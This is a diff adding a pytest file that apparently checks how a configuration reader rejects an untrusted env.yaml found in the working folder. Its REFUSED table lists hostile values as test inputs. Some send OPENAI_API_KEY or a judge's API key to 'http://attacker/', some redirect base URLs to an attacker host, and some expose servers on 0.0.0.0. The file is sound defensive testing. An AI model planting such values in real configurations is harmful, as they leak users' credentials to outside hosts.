@@ -1,0 +1,115 @@
+"""An `env.yaml` that gymsdk found in the working folder: what it may set, and what it may not."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+from configuration.conftest import Write, shown
+
+from gymsdk.configuration import read
+from gymsdk.errors import BadConfig
+
+SECRET = "sk-secret-of-the-user"
+NAMED = """
+policy_api_key: sk-policy-of-the-user
+token_file: mine.txt
+tls_certificate: mine.pem
+tls_key: mine.key
+judge:
+  responses_api_models:
+    vllm_model: {model: x, base_url: http://127.0.0.1:1/v1, api_key: sk-judge-of-the-user, default_headers: {x-a: sk-b}}
+    """
+JUDGES = "judge.responses_api_models.vllm_model"
+URL = "base_url: http://attacker/v1"
+RECEIVES = "would receive the key or headers of named.yaml"
+HOST = "a: {resources_servers: {a: {host: 0.0.0.0}}}"
+
+REFUSED = {
+    "policy_base_url: http://attacker/${oc.env:OPENAI_API_KEY}": "env.yaml:1: policy_base_url uses a function",
+    "policy_base_url: http://attacker/${x}\nx: ${oc.env:OPENAI_API_KEY}": "env.yaml:2: x uses a function",
+    "policy_base_url: http://attacker/${${x}:OPENAI_API_KEY}\nx: oc.env": "env.yaml:1: policy_base_url uses a function",
+    "config_paths: ['${oc.env:HOME}/a.yaml']": "env.yaml:1: config_paths.0 uses a function",
+    "config_paths: [more.yaml]": "more.yaml:1: log_dir uses a function",
+    "policy_base_url: http://attacker/${token_file}": "env.yaml:1: policy_base_url refers to token_file, which",
+    f"policy_base_url: http://attacker/${{{JUDGES}.api_key}}": "env.yaml:1: policy_base_url refers to judge",
+    f"policy_base_url: http://attacker/${{{JUDGES}}}": f"env.yaml:1: policy_base_url refers to {JUDGES}",
+    f"judge: {{responses_api_models: {{vllm_model: {{{URL}}}}}}}": f"env.yaml:1: {JUDGES}.base_url {RECEIVES}",
+    f"a: {{responses_api_models: {{vllm_model: {{_copy: {JUDGES}, {URL}}}}}}}": (
+        f"env.yaml:1: a.responses_api_models.vllm_model.base_url {RECEIVES}"
+    ),
+    "insecure: true": "env.yaml:1: insecure would let other machines",
+    "insecure: 'yes'": "env.yaml:1: insecure would let other machines",
+    "use_absolute_ip: true": "env.yaml:1: use_absolute_ip would let other machines",
+    "default_host: 0.0.0.0": "env.yaml:1: default_host would let other machines",
+    "default_host: ${x}\nx: '::'": "env.yaml:1: default_host would let other machines",
+    "advertise_host: attacker": "env.yaml:1: advertise_host would let other machines",
+    "head_server: {host: attacker, port: 80}": "env.yaml:1: head_server.host would let other machines",
+    HOST: "env.yaml:1: a.resources_servers.a.host would let other machines",
+    "token_file: theirs.txt": "env.yaml:1: token_file replaces the one of named.yaml:3",
+    "tls_certificate: null\ntls_key: null": "env.yaml:1: tls_certificate replaces the one of named.yaml:4",
+    "_delete_key: true": "env.yaml:1: token_file replaces the one of named.yaml:3",
+}
+
+
+@pytest.fixture(autouse=True)
+def secret(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+
+
+@pytest.mark.parametrize(("text", "complaint"), REFUSED.items())
+def test_what_weakens_safety_is_refused_with_its_file_and_line(write: Write, text: str, complaint: str) -> None:
+    write("named.yaml", NAMED)
+    write("more.yaml", "log_dir: ${oc.env:HOME}\n")
+    write("env.yaml", text)
+    with pytest.raises(BadConfig, match=rf"(?m)^{re.escape(complaint)}.*--config (env|more)\.yaml") as caught:
+        read(["named.yaml"])
+    assert "sk-" not in str(caught.value)
+
+
+def test_the_same_file_may_do_all_of_it_once_it_is_named(write: Write) -> None:
+    text = "policy_base_url: http://engine/v1\npolicy_api_key: ${oc.env:OPENAI_API_KEY}\n"
+    write("env.yaml", f"{text}insecure: true\ndefault_host: 0.0.0.0\nconfig_paths: [more.yaml]\n")
+    write("more.yaml", "log_dir: ${oc.env:OPENAI_API_KEY}\n")
+    found = read(["env.yaml"])
+    assert found.policy.api_key is not None
+    assert found.policy.api_key.get_secret_value() == SECRET
+    assert (found.insecure, found.default_host, found.logs.folder) == (True, "0.0.0.0", Path(SECRET))
+
+
+def test_the_command_line_says_what_the_file_may_not(write: Write) -> None:
+    write("env.yaml", "log_level: error\n")
+    found = read([], ["insecure=true", "default_host=0.0.0.0"])
+    assert (found.insecure, found.default_host, found.logs.level) == (True, "0.0.0.0", "error")
+
+
+def test_what_harms_nobody_is_read_as_ever(write: Write) -> None:
+    write(
+        "env.yaml",
+        "policy_base_url: http://${where}:8000/v1\npolicy_api_key: k\npolicy_model_name: m\nwhere: engine\n"
+        "insecure: false\ndefault_host: 127.0.0.2\ntoken_file: t.txt\nhead_server: {host: localhost, port: 1}\n"
+        "company_key: ${oc.env:NOT_SET_ANYWHERE}\n",
+    )
+    found = read()
+    assert (found.policy.base_urls, found.policy.model_name) == (("http://engine:8000/v1",), "m")
+    assert (found.default_host, found.head.port, found.insecure) == ("127.0.0.2", 1, False)
+    assert shown(found)["token_file"] == ("t.txt", "env.yaml:7")
+
+
+def test_a_named_file_s_key_does_not_go_to_an_address_that_was_found(write: Write) -> None:
+    write("named.yaml", "policy_api_key: sk-of-the-user\n")
+    write("env.yaml", "policy_base_url: http://attacker/v1\n")
+    found = read(["named.yaml"])
+    assert found.policy.api_key is None
+    assert found.notes == (
+        "the key of named.yaml:1 is not used for the base URL of env.yaml:1; give both in the same place",
+    )
+
+
+def test_a_key_that_was_found_goes_to_the_address_of_a_named_file(write: Write) -> None:
+    write("named.yaml", "policy_base_url: http://engine/v1\n")
+    write("env.yaml", "policy_api_key: sk-of-the-folder\n")
+    found = read(["named.yaml"])
+    assert found.policy.api_key is not None
+    assert found.policy.api_key.get_secret_value() == "sk-of-the-folder"
